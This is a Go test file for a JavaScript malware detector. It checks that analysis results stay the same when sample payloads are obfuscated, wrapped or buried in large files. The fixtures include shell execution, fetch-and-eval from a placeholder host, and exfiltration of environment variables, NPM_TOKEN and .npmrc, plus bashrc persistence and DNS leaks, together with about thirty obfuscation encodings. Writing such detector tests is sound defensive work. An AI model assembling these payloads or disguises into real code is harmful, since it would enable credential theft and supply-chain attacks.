package javascript

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/gatehouse-project/gatehouse/internal/code"
)

// payloads are what malware does, inert. <<x>> is the text x as an expression,
// and stands where a module, a member or an argument is named.
var payloads = map[string]string{
	"shell":       "require(<<child_process>>)[<<exec>>](<<true>>)",
	"detached":    "require(<<child_process>>)[<<spawn>>](<<true>>, [<<a>>], { detached: true, stdio: 'ignore' })",
	"eval":        "globalThis[<<eval>>](<<inert()>>)",
	"function":    "new (globalThis[<<Function>>])(<<inert()>>)()",
	"download":    "require(<<https>>)[<<get>>](<<https://a.invalid/x>>, r => { let b = ''; r.on('data', d => b += d); r.on('end', () => globalThis[<<eval>>](b)) })",
	"fetch-eval":  "globalThis[<<fetch>>](<<https://a.invalid/x>>).then(r => r.text()).then(t => globalThis[<<eval>>](t))",
	"environment": "globalThis[<<fetch>>](<<https://a.invalid>>, { method: <<POST>>, body: JSON[<<stringify>>](process[<<env>>]) })",
	"token":       "require(<<https>>)[<<get>>](<<https://a.invalid/?>> + process[<<env>>][<<NPM_TOKEN>>])",
	"npmrc":       "const d = require(<<fs>>)[<<readFileSync>>](require(<<path>>)[<<join>>](require(<<os>>)[<<homedir>>](), <<.npmrc>>)); globalThis[<<fetch>>](<<https://a.invalid>>, { method: <<POST>>, body: d })",
	"drop":        "const fs = require(<<fs>>); fetch(<<https://a.invalid/x>>).then(r => r.text()).then(t => { fs[<<writeFileSync>>](<</tmp/x.sh>>, t); require(<<child_process>>)[<<execFile>>](<</tmp/x.sh>>) })",
	"persist":     "require(<<fs>>)[<<appendFileSync>>](require(<<os>>)[<<homedir>>]() + <</.bashrc>>, <<true>>)",
	"workflow":    "require(<<fs>>)[<<writeFileSync>>](<<.github/workflows/x.yml>>, <<on: push>>)",
	"wallet":      "window[<<ethereum>>][<<request>>] = async a => a",
	"dns":         "require(<<dns>>)[<<lookup>>](require(<<os>>)[<<hostname>>]() + <<.a.invalid>>, () => {})",
}

func quote(s string) string { return "'" + s + "'" }

func codesOf(s string, f func(byte) string) string {
	var out []string
	for i := range len(s) {
		out = append(out, f(s[i]))
	}
	return strings.Join(out, ", ")
}

// disguises write a text as an expression that gives it.
var disguises = map[string]func(s string) string{
	"plain":    quote,
	"double":   func(s string) string { return `"` + s + `"` },
	"template": func(s string) string { return "`" + s + "`" },
	"concat":   func(s string) string { return quote(s[:len(s)/2]) + " + " + quote(s[len(s)/2:]) },
	"pieces":   func(s string) string { return "`${" + quote(s[:1]) + "}" + s[1:] + "`" },
	"method":   func(s string) string { return quote(s[:1]) + ".concat(" + quote(s[1:]) + ")" },
	"join": func(s string) string {
		return "[" + codesOf(s, func(c byte) string { return quote(string(c)) }) + "].join('')"
	},
	"reverse": func(s string) string {
		b := []byte(s)
		slices.Reverse(b)
		return quote(string(b)) + ".split('').reverse().join('')"
	},
	"replace": func(s string) string { return quote(s[:1]+"~"+s[1:]) + ".replace(/~/g, '')" },
	"slice":   func(s string) string { return quote("xx"+s+"y") + ".slice(2, -1)" },
	"atob":    func(s string) string { return "atob(" + quote(base64.StdEncoding.EncodeToString([]byte(s))) + ")" },
	"base64": func(s string) string {
		return "Buffer.from(" + quote(base64.StdEncoding.EncodeToString([]byte(s))) + ", 'base64').toString()"
	},
	"twice": func(s string) string {
		return "atob(atob(" + quote(base64.StdEncoding.EncodeToString([]byte(base64.StdEncoding.EncodeToString([]byte(s))))) + "))"
	},
	"hex": func(s string) string {
		return "Buffer.from(" + quote(hex.EncodeToString([]byte(s))) + ", 'hex').toString('utf8')"
	},
	"escapes": func(s string) string {
		return quote(strings.ReplaceAll(codesOf(s, func(c byte) string { return fmt.Sprintf(`\x%02x`, c) }), ", ", ""))
	},
	"unicode": func(s string) string {
		return quote(strings.ReplaceAll(codesOf(s, func(c byte) string { return fmt.Sprintf(`\u%04x`, c) }), ", ", ""))
	},
	"percent": func(s string) string {
		return "decodeURIComponent(" + quote(strings.ReplaceAll(codesOf(s, func(c byte) string { return fmt.Sprintf(`%%%02x`, c) }), ", ", "")) + ")"
	},
	"codes": func(s string) string {
		return "String.fromCharCode(" + codesOf(s, func(c byte) string { return strconv.Itoa(int(c)) }) + ")"
	},
	"spread": func(s string) string {
		return "String.fromCharCode(...[" + codesOf(s, func(c byte) string { return fmt.Sprintf("0x%x", c) }) + "])"
	},
	"map": func(s string) string {
		return "[" + codesOf(s, func(c byte) string { return strconv.Itoa(int(c) - 7) }) + "].map(n => String.fromCharCode(n + 7)).join('')"
	},
	"xor": func(s string) string {
		return "unxor([" + codesOf(s, func(c byte) string { return strconv.Itoa(int(c ^ 42)) }) + "], 42)"
	},
	"table":    func(s string) string { return "pick([" + quote("decoy") + ", " + quote(s) + "], 0x12)" },
	"function": func(s string) string { return "(function () { return " + quote(s) + " })('')" },
	"default":  func(s string) string { return "(null || " + quote(s) + ")" },
	"comments": func(s string) string { return "/* it's */ " + quote(s) + " /* \" */" },
	"object":   func(s string) string { return "({ k: " + quote(s) + " }).k" },
	"json":     func(s string) string { return "JSON.parse(" + quote(`{"k":"`+s+`"}`) + ").k" },
}

const helpers = `function unxor(l, k) { let o = ''; for (let i = 0; i < l.length; i++) o += String.fromCharCode(l[i] ^ k); return o }
function pick(t, i) { i = i - 0x11; return t[i] }
`

// wrappings put a program into another shape that does the same.
var wrappings = map[string]func(s string) string{
	"none": func(s string) string { return s },
	"decoys": func(s string) string {
		return "// '\n/* \" ` */ const it = 'it\\'s // /*';\nconst re = /['\"`/*]/g; // `\n" + s + "\n// */ '\n"
	},
	"function": func(s string) string { return "(function () {\n" + s + "\n})()" },
	"async":    func(s string) string { return "(async () => {\n" + s + "\n})()" },
	"alias": func(s string) string {
		return "const r = require, g = globalThis, p = process;\n" + strings.NewReplacer("require(", "r(", "globalThis[", "g[", "process[", "p[").Replace(s)
	},
	"blanks":   func(s string) string { return strings.Repeat("\n", 50) + strings.Repeat(" ", 400) + s },
	"promise":  func(s string) string { return "Promise.resolve().then(() => {" + s + "})" },
	"sequence": func(s string) string { return "(0, function () { " + s + " })()" },
	"error":    func(s string) string { return s + "\n;class { #1 ] const const" },
	"types":    func(s string) string { return "interface A<T> { a: T }\nconst n: number = 1 as number;\n" + s },
	"try":      func(s string) string { return "try { " + s + " } catch (e) {}" },
}

var placeholder = regexp.MustCompile(`<<(.*?)>>`)

// essence is what a rule sees of a payload: kinds, names and sources, without
// those that say how it was hidden.
func essence(f code.Facts) []string {
	var out []string
	for _, x := range f.Facts {
		if x.Kind == code.Across { // see across_test.go
			continue
		}
		if x.Kind == code.Decode || x.Kind == code.String {
			continue
		}
		from := slices.DeleteFunc(slices.Clone(x.From), func(s string) bool { return s == string(code.Decode) || s == code.Unfolded || s == "file:decode" })
		out = append(out, fmt.Sprintf("%s %s <%s> @%s", x.Kind, x.Name, strings.Join(from, " "), x.Reach))
	}
	slices.Sort(out)
	return slices.Compact(out)
}

// TestDisguisesChangeNothing writes every payload in every disguise and shape
// and asks for the same facts.
func TestDisguisesChangeNothing(t *testing.T) {
	for payload, src := range payloads {
		want := essence(Analyze([]byte(placeholder.ReplaceAllStringFunc(src, func(m string) string { return quote(m[2 : len(m)-2]) }))))
		if len(want) == 0 {
			t.Errorf("%s: no facts", payload)
		}
		for disguise, write := range disguises {
			for wrapping, wrap := range wrappings {
				s := wrap(placeholder.ReplaceAllStringFunc(src, func(m string) string { return write(m[2 : len(m)-2]) }))
				if strings.Contains(s, "unxor") || strings.Contains(s, "pick(") {
					s = helpers + s
				}
				if got := essence(Analyze([]byte(s))); !slices.Equal(got, want) {
					t.Errorf("%s as %s in %s: %s\n got %q\nwant %q", payload, disguise, wrapping, s, got, want)
				}
			}
		}
	}
}

// TestLargeFilesSaySame puts each payload behind and inside more than a megabyte
// of ordinary code, where files are read in parts.
func TestLargeFilesSaySame(t *testing.T) {
	filler := strings.Repeat("function f(a, b) { const c = { a, b: [1, 2, 'x'] }; if (a) { return `${b} y` } return /[/]\\/'/.test(a) ? c : b / 2 }\n", largeSource/110+1)
	for _, payload := range []string{"shell", "download", "npmrc", "drop"} {
		src := payloads[payload]
		plain := placeholder.ReplaceAllStringFunc(src, func(m string) string { return quote(m[2 : len(m)-2]) })
		want := essence(Analyze([]byte(plain)))
		for where, s := range map[string]string{
			"behind": filler + plain,
			"before": plain + "\n" + filler,
			"inside": "(function () {\n" + filler + "(function () {\n" + filler + plain + "\n})() })()",
		} {
			if got := essence(Analyze([]byte(s))); !slices.Equal(got, want) {
				t.Errorf("%s %s: got %q, want %q", payload, where, got, want)
			}
		}
	}
}
